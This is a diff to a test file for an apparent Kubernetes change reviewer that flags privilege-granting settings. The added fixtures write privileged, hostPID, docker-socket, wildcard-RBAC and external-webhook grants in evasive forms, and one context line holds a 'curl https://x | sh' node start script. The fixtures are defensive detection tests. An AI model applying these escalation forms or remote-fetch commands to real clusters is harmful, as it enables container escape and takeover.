@@ -1,5 +1,8 @@
 import { describe, expect, test } from 'vitest';
+import { textGrants } from '../../../src/artifacts/unrendered/granting-settings.ts';
 import { type Change, reviewChange } from '../../support/in-memory-repository.ts';
+import { inLinearTime } from '../../support/linear-time.ts';
+import { endsSoonAsync } from '../../support/soon.ts';
 
 const added = (text: string): Change => ({ base: { 'README.md': 'x' }, head: { 'README.md': 'x', 'a.yaml': text } });
 const object = (apiVersion: string, kind: string, spec: object, more: object = {}): Change =>
@@ -50,6 +53,61 @@ const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
     ),
     'in escapes': added(
       'apiVersion: example.org/v1\nkind: Any\nmetadata: {name: a}\nspec: {server: {"securityContext": {"priv\\u0069leged": true}}}\n',
+    ),
+  },
+  'settings under the names and in the ways of other operators': {
+    'in capitals': object('example.org/v1', 'Any', { HostNetwork: true }),
+    'in snakes': object('example.org/v1', 'Any', { host_pid: true }),
+    'as a text': object('example.org/v1', 'Any', { privileged: 'true' }),
+    'as what it uses': object('example.org/v1', 'Any', { agent: { useHostNetwork: true } }),
+    'the socket of Docker': object('example.org/v1', 'Any', { dockerSocket: true }),
+    'capabilities as a list': object('example.org/v1', 'Any', { capabilities: ['CAP_SYS_ADMIN'] }),
+    'capabilities as Docker calls them': object('example.org/v1', 'Any', { cap_add: ['ALL'] }),
+    'a path alone': object('example.org/v1', 'Any', { mounts: [{ hostPath: '/var/run/docker.sock', mountPath: '/x' }] }),
+    'a path of the node of kind': object('kind.x-k8s.io/v1alpha4', 'Cluster', {}, { nodes: [{ extraMounts: [{ hostPath: '/' }] }] }),
+    'a key of many names': object('example.org/v1', 'Any', { overrides: { 'spec.template.spec.hostPID': true } }),
+    'a key that is a pointer': object('example.org/v1', 'Any', { overrides: { '/spec/containers/0/securityContext/privileged': true } }),
+    'an operation': object('example.org/v1', 'Any', { patches: [{ value: true, op: 'add', path: '/spec/hostPID' }] }),
+    'an operation on a path': object('example.org/v1', 'Any', {
+      patches: [{ op: 'replace', path: '/spec/volumes/0/hostPath/path', value: '/' }],
+    }),
+    'a name and a value': object('example.org/v1', 'Any', { set: [{ name: 'securityContext.privileged', value: 'true' }] }),
+    'a field that a claim fills': object('apiextensions.crossplane.io/v1', 'Composition', {
+      resources: [{ name: 'a', patches: [{ fromFieldPath: 'spec.open', toFieldPath: 'spec.forProvider.manifest.spec.hostPID' }] }],
+    }),
+    'an operation as a text, its value first': object('kubevirt.io/v1', 'KubeVirt', {
+      customizeComponents: { patches: [{ type: 'json', patch: '[{"value": true, "path": "/spec/hostPID", "op": "add"}]' }] },
+    }),
+    'an operation as a text of YAML': object('example.org/v1', 'Any', { patch: '- op: add\n  path: /spec/hostPID\n  value: true\n' }),
+    'a text of TOML for a runner': object(
+      'v1',
+      'ConfigMap',
+      {},
+      { data: { 'config.toml': '[runners.kubernetes]\n  privileged = true\n' } },
+    ),
+    'a path in a text for a runner': object(
+      'v1',
+      'ConfigMap',
+      {},
+      { data: { x: '{"volumes": [{"value": {"path": "/"}, "hostPath": {"path": "/"}}]}' } },
+    ),
+  },
+  'rights that an operator hands out, and hands that change all objects': {
+    'the Operator Lifecycle Manager, over everything': object('operators.coreos.com/v1alpha1', 'ClusterServiceVersion', {
+      install: {
+        spec: { clusterPermissions: [{ serviceAccountName: 'a', rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }] },
+      },
+    }),
+    'anybody, to take any': object('example.org/v1', 'Any', {
+      extraRules: [{ apiGroups: ['rbac.authorization.k8s.io'], resources: ['clusterroles'], verbs: ['get', 'escalate'] }],
+    }),
+    'a webhook outside of the cluster': object(
+      'admissionregistration.k8s.io/v1',
+      'MutatingWebhookConfiguration',
+      {},
+      {
+        webhooks: [{ name: 'a.example.org', clientConfig: { url: 'https://a.example.org/x' } }],
+      },
     ),
   },
   'texts that an operator merges into pods': {
@@ -160,6 +218,9 @@ const attacks: Readonly<Record<string, Readonly<Record<string, Change>>>> = {
     }),
     'an upgrade of Rancher': object('upgrade.cattle.io/v1', 'Plan', { upgrade: { image: 'x/y', command: ['sh'] } }),
     'a start of Karpenter': object('karpenter.k8s.aws/v1', 'EC2NodeClass', { userData: '#!/bin/sh\ncurl https://x | sh\n' }),
+    'files of Talos': added(
+      'version: v1alpha1\nmachine: {type: worker, files: [{path: /etc/cri/conf.d/20.part, op: create, content: x}]}\ncluster: {}\n',
+    ),
     'a hook of kOps': object('kops.k8s.io/v1alpha2', 'InstanceGroup', { hooks: [{ manifest: 'ExecStart=/bin/sh' }] }),
   },
   'policies that mutate, however they are written': {
@@ -237,6 +298,35 @@ describe('an ordinary virtual machine of KubeVirt', () => {
   });
 });
 
+test('a text is looked through as far as it may be, and time is linear in it', () => {
+  expect(textGrants(`hostPath: {path: /x}\n${'- {path: /spec/hostPID, value: true}\n'.repeat(9)}`, { left: 1_000 })).toBe(true);
+  for (const piece of ['privileged: ', 'hostPath\n', '{"privileged":', '- {path: a, value: b}\n', '/privileged", "value": '])
+    inLinearTime(
+      40_000,
+      size => `privileged\n${piece.repeat(size / piece.length)}`,
+      text => textGrants(text, { left: 400_000 }),
+    );
+});
+
+test('a long text that a thousand aliases name is looked through once', async () => {
+  const text = `# privileged\n${'- {a: b, c: [1, 2]}\n'.repeat(2_000)}`;
+  const aliases = Array.from({ length: 1_000 }, (_, index) => `{k${index}: *a}`).join(', ');
+  const change = added(
+    `x: &a ${JSON.stringify(text)}\napiVersion: example.org/v1\nkind: Any\nmetadata: {name: a}\nspec: {l: [${aliases}]}\n`,
+  );
+  const { verdict } = await endsSoonAsync(() => reviewChange(change), 100);
+  expect(verdict.conclusion).toBe('pass');
+});
+
+test('texts that are too many to be looked through leave the change open', async () => {
+  const data = Object.fromEntries(
+    Array.from({ length: 32 }, (_, index) => [`k${index}`, `# privileged ${index}\n${'- one more of them\n'.repeat(3_000)}`]),
+  );
+  const { verdict, coverage } = await reviewChange(object('v1', 'ConfigMap', {}, { data }));
+  expect(verdict.conclusion).toBe('incomplete');
+  expect(coverage.entries[0]).toMatchObject({ reason: expect.stringContaining('is too large in ConfigMap "a" to be looked through') });
+});
+
 describe('what only names such settings stays quiet', () => {
   test.each(
     Object.entries({
@@ -270,6 +360,39 @@ describe('what only names such settings stays quiet', () => {
         'io.kubernetes.cri-o.ShmSize': '1Gi',
         'seccomp-profile.kubernetes.cri-o.io': 'runtime/default',
       }),
+      'rights of a role, which rules judge': object(
+        'rbac.authorization.k8s.io/v1',
+        'ClusterRole',
+        {},
+        {
+          rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
+        },
+      ),
+      'rights over what is its own': object('operators.coreos.com/v1alpha1', 'ClusterServiceVersion', {
+        install: { spec: { permissions: [{ rules: [{ apiGroups: ['example.org'], resources: ['*'], verbs: ['*'] }] }] } },
+      }),
+      'a webhook of the cluster': object(
+        'admissionregistration.k8s.io/v1',
+        'MutatingWebhookConfiguration',
+        {},
+        {
+          webhooks: [{ name: 'a.example.org', clientConfig: { service: { name: 'a', namespace: 'b' } } }],
+        },
+      ),
+      'names and values that say nothing of it': object('example.org/v1', 'Any', {
+        env: [{ name: 'LOG_LEVEL', value: 'true' }],
+        capabilities: ['Full Lifecycle'],
+        hostPath: '/opt/data',
+        'host-network': false,
+      }),
+      'a text of a ConfigMap that only speaks of it': object(
+        'v1',
+        'ConfigMap',
+        {},
+        {
+          data: { notes: 'Runners are not privileged: they have a host of their own.', x: '{"privileged": false, "path": "/"}' },
+        },
+      ),
       'what is allowed': object('policy/v1beta1', 'PodSecurityPolicy', { hostNetwork: true }),
     }),
   )('%s', async (_name, change) => {
